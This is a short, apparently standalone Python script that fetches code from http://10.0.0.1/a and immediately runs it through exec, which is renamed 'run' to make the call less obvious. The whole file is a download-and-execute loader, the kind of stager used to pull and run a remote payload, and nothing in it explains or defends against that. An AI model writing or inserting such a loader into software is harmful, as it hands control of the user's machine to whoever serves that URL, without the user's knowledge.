import urllib.request
run = exec
src = urllib.request.urlopen("http://10.0.0.1/a").read().decode()
run(src)
